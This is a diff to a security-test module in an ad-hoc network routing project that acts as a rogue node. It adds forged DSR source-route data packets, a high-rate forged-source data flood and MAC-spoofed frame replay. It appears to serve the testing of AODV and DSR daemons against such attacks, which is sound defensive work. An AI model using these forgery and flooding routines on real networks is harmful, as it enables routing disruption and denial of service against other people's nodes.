@@ -3,8 +3,10 @@ namespace that is in radio range of the victims. Holds no key.
 
     python3 -m tests.security.rogue IFACE DST_MAC rrep --orig A --dest B --seq N [--via R]
     python3 -m tests.security.rogue IFACE DST_MAC dsr-rerr --src A --dst B --unreachable C
-    python3 -m tests.security.rogue IFACE DST_MAC replay --hex FRAME_PACKET_HEX [--count N]
+    python3 -m tests.security.rogue IFACE DST_MAC replay --hex FRAME_PACKET_HEX [--count N] [--src-mac M]
     python3 -m tests.security.rogue IFACE DST_MAC rreq-flood --rate 1000 --seconds 3 --orig A
+    python3 -m tests.security.rogue IFACE DST_MAC dsr-data --src A --dst B [--via R ...]
+    python3 -m tests.security.rogue IFACE DST_MAC data-flood --src A --rate 500 --seconds 6
 
 Prints one JSON line: what it sent and for how long (the flood's achieved rate).
 """
@@ -22,7 +24,7 @@ from scapy.layers.l2 import Ether
 from scapy.packet import Raw
 
 from manetkit.daemon.linksense.hello import is_hello
-from manetkit.daemon.wire import aodv, dsr
+from manetkit.daemon.wire import aodv, dsr, ipv4
 
 ETHERTYPE = 0x88B5
 
@@ -45,6 +47,21 @@ def rreq(orig: IPv4Address, ident: int) -> bytes:
     dest = IPv4Address(0x0A2AFF00 | (ident & 0xFF))
     msg = aodv.RREQ(0, ident, dest, 0, orig, ident, unknown_seq=True)
     return aodv.control_packet(msg, orig, aodv.BROADCAST, ttl=16)
+
+
+def forged_dsr_data(src: IPv4Address, dst: IPv4Address, via: list[IPv4Address]) -> bytes:
+    """A DSR data packet (RFC 4728 8.1.3) 'from' ``src`` whose Source Route lists
+    ``via`` and points at its last hop: whoever receives it is told ``src`` reached it
+    over that route (unsigned: a Source Route alone is never signed)."""
+    inner = ipv4.udp(40000, 9, b"forged", src, dst)
+    sr = dsr.SourceRoute(tuple(via), 0)
+    return dsr.encapsulate(dsr.IPFields(src, dst), [sr], ipv4.PROTO_UDP, inner)
+
+
+def forged_data(src: IPv4Address, n: int) -> bytes:
+    """Plain IPv4 data (AODV's data plane) 'from' ``src`` to a made-up destination."""
+    dst = IPv4Address(int(IPv4Address("10.43.0.0")) + n % 65_000 + 1)
+    return ipv4.build(src, dst, ipv4.PROTO_UDP, ipv4.udp(40000, 9, b"forged", src, dst))
 
 
 def capture(iface: str, from_mac: str, timeout: float) -> str:
@@ -82,8 +99,18 @@ def main(argv: list[str] | None = None) -> None:
     p = sub.add_parser("replay")
     p.add_argument("--hex", required=True)
     p.add_argument("--count", type=int, default=3)
+    p.add_argument("--src-mac", help="send from this MAC address (spoofed) instead of ours")
     p = sub.add_parser("capture", help="print the first AODV frame from DST_MAC as hex")
     p.add_argument("--timeout", type=float, default=10)
+    p = sub.add_parser("dsr-data")
+    p.add_argument("--src", type=IPv4Address, required=True)
+    p.add_argument("--dst", type=IPv4Address, required=True)
+    p.add_argument("--via", type=IPv4Address, nargs="*", default=[])
+    p.add_argument("--count", type=int, default=40)
+    p = sub.add_parser("data-flood", help="data 'from' --src to a new destination each")
+    p.add_argument("--src", type=IPv4Address, required=True)
+    p.add_argument("--rate", type=float, default=500)
+    p.add_argument("--seconds", type=float, default=6)
     p = sub.add_parser("rreq-flood")
     p.add_argument("--orig", type=IPv4Address, required=True)
     p.add_argument("--rate", type=float, default=1000)
@@ -104,10 +131,12 @@ def main(argv: list[str] | None = None) -> None:
 
     start = time.monotonic()
     sent = 0
-    if a.cmd == "rreq-flood":
+    if a.cmd in ("rreq-flood", "data-flood"):
         period = 1 / a.rate
         while (now := time.monotonic()) < start + a.seconds:
-            if a.spoof:  # a forged-source flood: every frame from a new node
+            if a.cmd == "data-flood":
+                send(forged_data(a.src, sent))
+            elif a.spoof:  # a forged-source flood: every frame from a new node
                 orig = IPv4Address(int(IPv4Address("10.99.0.1")) + sent)
                 send(rreq(orig, 1), "02:99:" + (sent + 1).to_bytes(4, "big").hex(":"))
             else:
@@ -121,10 +150,12 @@ def main(argv: list[str] | None = None) -> None:
             packet = forged_rrep(a.rogue, a.victim, a.dest, a.seq)
         elif a.cmd == "dsr-rerr":
             packet = forged_dsr_rerr(a.src, a.dst, a.unreachable)
+        elif a.cmd == "dsr-data":
+            packet = forged_dsr_data(a.src, a.dst, a.via)
         else:
             packet = bytes.fromhex(a.hex)
         for _ in range(a.count):
-            send(packet)
+            send(packet, getattr(a, "src_mac", None) or src_mac)
             sent += 1
             time.sleep(0.01)
     now = time.monotonic()
